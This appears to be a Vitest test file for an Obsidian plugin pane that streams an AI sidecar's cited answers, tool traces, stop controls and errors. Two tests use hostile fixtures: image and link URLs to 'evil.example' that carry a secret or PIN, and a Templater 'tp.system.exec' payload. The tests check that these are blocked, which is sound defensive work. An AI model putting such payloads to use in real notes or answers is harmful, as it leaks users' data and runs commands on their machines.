import { describe, expect, it, vi } from "vitest";
import type { AgentEvent } from "../../src/generated/contract";
import { MarkdownRenderer, Notice } from "../../stub/obsidian";
import { SidecarError } from "../../src/client";
import { done, loadPlugin, tick } from "./helpers";

const ANSWER =
	"You last fed the starter on [[Daily/2026-11-12|12 November]], see [[Recipes/Sourdough Starter#Feeding]] " +
	"and [[papers/baking.pdf#page=3]].\n\nSources:\n- [[Daily/2026-11-12]]\n- [[Recipes/Sourdough Starter#Feeding]]";
const SOURCES = [
	{ file: "Daily/2026-11-12.md", title: "2026-11-12", heading: "", source: "vault", url: null },
	{ file: "Recipes/Sourdough Starter.md", title: "Sourdough Starter", heading: "Sourdough Starter > Feeding", source: "vault", url: null },
];

const RUN: AgentEvent[] = [
	{ event: "status", stage: "searching", message: "Searching your notes", turn: 1 },
	{ event: "tool_call", id: "c1", name: "search_notes", arguments: { query: "feed starter", tags: [] }, turn: 1 },
	{ event: "tool_result", id: "c1", name: "search_notes", ok: true, summary: "5 passages from 3 notes", notes: [], elapsed_ms: 41.6 },
	{ event: "delta", text: "You last fed ", turn: 2 },
	{ event: "delta", text: "the starter…", turn: 2 },
	done(ANSWER, SOURCES),
];

async function askedPane(script = RUN) {
	const loaded = await loadPlugin(script);
	await loaded.plugin.openAskView(null);
	const streamed: string[] = [];
	loaded.client.between = async (event) => {
		if (event.event !== "delta") return;
		await new Promise((resolve) => setTimeout(resolve, 200)); // past the render throttle
		streamed.push(loaded.app.sidebarEl.querySelector(".vault-agent-answer")?.textContent ?? "");
	};
	await loaded.view().ask("When did I last feed the starter?");
	return { ...loaded, streamed, pane: loaded.app.sidebarEl };
}

function click(el: Element, init: MouseEventInit = {}, type = "click") {
	el.dispatchEvent(new MouseEvent(type, { bubbles: true, cancelable: true, button: 0, ...init }));
}

describe("the pane", () => {
	it("renders the answer as it streams, then shows the checked answer with its citations", async () => {
		const { pane, streamed } = await askedPane();
		expect(streamed).toEqual(["You last fed ", "You last fed the starter…"]);
		const links = [...pane.querySelectorAll(".vault-agent-answer a.internal-link")].map((a) => a.getAttribute("data-href"));
		expect(links).toEqual(["Daily/2026-11-12", "Recipes/Sourdough Starter#Feeding", "papers/baking.pdf#page=3"]);
		expect(pane.querySelector(".vault-agent-answer")?.textContent).not.toContain("Sources:");
	});

	it("lists the sidecar's Sources as it wrote them, labelled by note and section", async () => {
		const { pane } = await askedPane();
		const sources = [...pane.querySelectorAll(".vault-agent-sources a.internal-link")];
		expect(sources.map((a) => [a.textContent, a.getAttribute("data-href")])).toEqual([
			["2026-11-12", "Daily/2026-11-12"],
			["Sourdough Starter › Feeding", "Recipes/Sourdough Starter#Feeding"],
		]);
	});

	it("shows the tool calls in a collapsed trace", async () => {
		const { pane } = await askedPane();
		const trace = pane.querySelector("details.vault-agent-trace") as HTMLDetailsElement;
		expect(trace.open).toBe(false);
		expect(trace.querySelector("summary")?.textContent).toBe("Steps (1)");
		expect(trace.textContent).toContain("search_notes");
		expect(trace.textContent).toContain("query: feed starter");
		expect(trace.textContent).toContain("5 passages from 3 notes (42 ms)");
	});

	it("opens a citation with openLinkText: in place on click, in a new tab on mod-click or middle click", async () => {
		const { pane, app } = await askedPane();
		const [daily, starter, pdf] = [...pane.querySelectorAll(".vault-agent-answer a.internal-link")];
		click(daily!);
		click(starter!, { ctrlKey: true });
		click(pdf!, { button: 1 }, "auxclick");
		expect(app.opened).toEqual([
			{ linktext: "Daily/2026-11-12", sourcePath: "Projects/Kyoto Trip.md", newLeaf: false },
			{ linktext: "Recipes/Sourdough Starter#Feeding", sourcePath: "Projects/Kyoto Trip.md", newLeaf: "tab" },
			{ linktext: "papers/baking.pdf#page=3", sourcePath: "Projects/Kyoto Trip.md", newLeaf: "tab" },
		]);
		click(pane.querySelector(".vault-agent-sources a.internal-link")!);
		expect(app.opened.at(-1)?.linktext).toBe("Daily/2026-11-12");
	});

	it("opens a PDF source at its page: the Sources entry links to #page=N", async () => {
		const pdf = { file: "papers/baking.pdf", title: "baking", heading: "Page 3", source: "vault", url: null };
		const answer = "Bake at 240 °C [[papers/baking.pdf#page=3]].\n\nSources:\n- [[papers/baking.pdf#page=3]]";
		const { pane, app } = await askedPane([done(answer, [pdf])]);
		const source = pane.querySelector(".vault-agent-sources a.internal-link")!;
		expect([source.textContent, source.getAttribute("data-href")]).toEqual(["baking.pdf › Page 3", "papers/baking.pdf#page=3"]);
		click(source);
		click(pane.querySelector(".vault-agent-answer a.internal-link")!);
		expect(app.opened.map((o) => o.linktext)).toEqual(["papers/baking.pdf#page=3", "papers/baking.pdf#page=3"]);
	});

	it("asks Obsidian for a hover preview of a citation", async () => {
		const { pane, app, plugin } = await askedPane();
		click(pane.querySelector(".vault-agent-answer a.internal-link")!, {}, "mouseover");
		expect(app.hovers).toEqual([{ linktext: "Daily/2026-11-12", sourcePath: "Projects/Kyoto Trip.md", source: "vault-agent-ask" }]);
		expect(app.hoverLinkSources["vault-agent-ask"]).toBeDefined();
		expect(plugin).toBeDefined();
	});

	it("shows no remote image, and counts what the sidecar and the pane left out", async () => {
		// The stub renders markdown images only: turn.test.ts renders raw HTML and references.
		const answer = "Look ![chart](https:/evil.example/c.png?d=secret) and ![ok](attachments/a.png) at [[Daily/2026-11-12]].";
		const { pane } = await askedPane([done(answer, [], { removed_images: ["https://evil.example/r.png"] })]);
		expect(Array.from(pane.querySelectorAll("img")).map((img) => img.getAttribute("src"))).toEqual(["attachments/a.png"]);
		expect(pane.querySelector(".vault-agent-answer")?.textContent).toContain("remote image not loaded: chart");
		expect(pane.querySelector(".vault-agent-footer")?.textContent).toMatch(/2 remote images or tags were not loaded/);
	});

	it("sends the active note's unsaved content, its neighbourhood and the settings", async () => {
		const loaded = await loadPlugin(RUN);
		loaded.app.openInEditor("Projects/Kyoto Trip.md", "unsaved edit");
		loaded.plugin.settings.profile = "extractive";
		loaded.plugin.settings.contextBudget = 5_000;
		await loaded.plugin.openAskView(null);
		await loaded.view().ask("Who do I know there?");
		expect(loaded.client.requests[0]).toEqual({
			question: "Who do I know there?",
			context_budget: 5_000,
			active_note: { path: "Projects/Kyoto Trip.md", content: "unsaved edit" },
			neighbourhood: [
				{ path: "People/Tomás Ferreira.md", relation: "link", depth: 1 },
				{ path: "Daily/2026-11-12.md", relation: "backlink", depth: 1 },
			],
			profile: "extractive",
		});
		const context = loaded.app.sidebarEl.querySelector("details.vault-agent-context")!;
		expect(context.querySelector("summary")?.textContent).toBe("Context: Kyoto Trip and 2 linked notes");
		expect([...context.querySelectorAll("li")].map((li) => li.textContent)).toEqual([
			"Projects/Kyoto Trip.md (open note)",
			"People/Tomás Ferreira.md (linked from it)",
			"Daily/2026-11-12.md (links to it)",
		]);
	});

	it("sends earlier turns as history until a new conversation starts", async () => {
		const loaded = await loadPlugin([done("First answer.")]);
		await loaded.plugin.openAskView(null);
		await loaded.view().ask("First?");
		loaded.client.script = [done("Second answer.")];
		await loaded.view().ask("Second?");
		expect(loaded.client.requests[1]?.history).toEqual([
			{ role: "user", content: "First?" },
			{ role: "assistant", content: "First answer." },
		]);
		click(loaded.app.sidebarEl.querySelector("button.vault-agent-new")!);
		expect(loaded.app.sidebarEl.querySelectorAll(".vault-agent-turn")).toHaveLength(0);
		await loaded.view().ask("Third?");
		expect(loaded.client.requests[2]?.history).toBeUndefined();
	});

	it("keeps an answer in the conversation it was asked in when another is opened while it renders", async () => {
		const loaded = await loadPlugin([done("First answer.")]);
		await loaded.plugin.openAskView(null);
		await loaded.view().ask("First?");
		const render = vi.spyOn(MarkdownRenderer, "render");
		render.mockImplementation(async (_app, markdown, el) => {
			// The checked answer renders: the user starts a new conversation meanwhile.
			if (markdown.includes("Second answer")) click(loaded.app.sidebarEl.querySelector("button.vault-agent-new")!);
			el.createEl("p", { text: markdown });
		});
		try {
			loaded.client.script = [done("Second answer.")];
			await loaded.view().ask("Second?");
		} finally {
			render.mockRestore();
		}
		const saved = loaded.plugin.conversations.map((c) => c.exchanges.map((e) => e.question));
		expect(saved).toEqual([["First?", "Second?"]]);
		loaded.client.script = [done("Third answer.")];
		await loaded.view().ask("Third?");
		expect(loaded.client.requests[2]?.history).toBeUndefined(); // the new one holds nothing yet
	});

	it("stops the answer when Stop is pressed", async () => {
		const loaded = await loadPlugin(RUN);
		await loaded.plugin.openAskView(null);
		const pane = loaded.app.sidebarEl;
		loaded.client.between = (event) => {
			if (event.event === "delta") click(pane.querySelector("button.vault-agent-stop")!);
		};
		await loaded.view().ask("q");
		expect(pane.querySelector(".vault-agent-stopped")?.textContent).toBe("Stopped.");
		// The partial answer stays, rendered in full.
		expect(pane.querySelector(".vault-agent-answer")?.textContent).toBe("You last fed ");
		expect((pane.querySelector("button.vault-agent-ask") as HTMLButtonElement).disabled).toBe(false);
	});

	it("stops mid-citation without leaving raw syntax to show", async () => {
		const cut: AgentEvent[] = [{ event: "delta", text: "You last fed Gus on [[Daily/2026-1", turn: 1 }, done(ANSWER, SOURCES)];
		const loaded = await loadPlugin(cut);
		await loaded.plugin.openAskView(null);
		const pane = loaded.app.sidebarEl;
		loaded.client.between = (event) => {
			if (event.event === "delta") click(pane.querySelector("button.vault-agent-stop")!);
		};
		await loaded.view().ask("q");
		expect(pane.querySelector(".vault-agent-stopped")?.textContent).toContain("Stopped.");
		expect(pane.querySelector(".vault-agent-answer")?.textContent?.trim()).toBe("You last fed Gus on");
		expect(pane.querySelector(".vault-agent-stopped button.vault-agent-retry")).not.toBeNull();
	});

	it("gives no way to copy a stopped answer's unchecked text: the pane showed it without what a note would load or run", async () => {
		const raw =
			"Your PIN is on the board ![board](https://evil.example/b.png?pin=4931) " +
			"[verify](https://evil.example/v?pin=4931) <%* tp.system.exec('id') %> see [[Daily/2026-11-12]] ";
		const loaded = await loadPlugin([{ event: "delta", text: raw, turn: 1 }, done(ANSWER, SOURCES)]);
		await loaded.plugin.openAskView(null);
		const pane = loaded.app.sidebarEl;
		const copied: string[] = [];
		Object.defineProperty(navigator, "clipboard", { value: { writeText: async (text: string) => void copied.push(text) }, configurable: true });
		loaded.client.between = (event) => {
			if (event.event === "delta") click(pane.querySelector("button.vault-agent-stop")!);
		};
		await loaded.view().ask("q");
		expect(pane.querySelector(".vault-agent-stopped")?.textContent).toContain("Stopped.");
		for (const button of Array.from(pane.querySelectorAll(".vault-agent-stopped button:not(.vault-agent-retry)"))) click(button);
		await new Promise((resolve) => setTimeout(resolve, 0));
		for (const text of copied) {
			expect(text).not.toContain("evil.example");
			expect(text).not.toContain("<%");
		}
	});

	it("shows the run's error, and a notice when the sidecar is down or the token wrong", async () => {
		const failing = await loadPlugin([{ event: "error", code: "model_unavailable", message: "Ollama is not running." }]);
		await failing.plugin.openAskView(null);
		await failing.view().ask("q");
		expect(failing.app.sidebarEl.querySelector(".vault-agent-error-text")?.textContent).toBe("Ollama is not running.");

		const down = await loadPlugin();
		down.client.script = () => Promise.reject(new SidecarError("unreachable", "connection refused"));
		await down.plugin.openAskView(null);
		await down.view().ask("q");
		expect(Notice.shown.at(-1)).toMatch(/not running at http:\/\/127\.0\.0\.1:8765/);
		down.client.script = () => Promise.reject(new SidecarError("unauthorized", "wrong token", 401, "invalid_token"));
		await down.view().ask("q");
		expect(Notice.shown.at(-1)).toMatch(/^No token set/); // none in the settings
		down.plugin.settings.token = "wrong";
		await down.view().ask("q");
		expect(Notice.shown.at(-1)).toMatch(/rejected the token/);
		expect(down.app.sidebarEl.querySelectorAll(".vault-agent-error")).toHaveLength(3);
	});

	it("asks with Enter, and keeps Shift+Enter for a new line", async () => {
		const loaded = await loadPlugin([done("ok")]);
		await loaded.plugin.openAskView(null);
		const input = loaded.app.sidebarEl.querySelector("textarea") as HTMLTextAreaElement;
		input.value = "Typed question";
		input.dispatchEvent(new KeyboardEvent("keydown", { key: "Enter", shiftKey: true, bubbles: true }));
		expect(loaded.client.requests).toHaveLength(0);
		input.dispatchEvent(new KeyboardEvent("keydown", { key: "Enter", bubbles: true }));
		await tick();
		await tick();
		expect(loaded.client.requests[0]?.question).toBe("Typed question");
		expect(input.value).toBe("");
	});
});
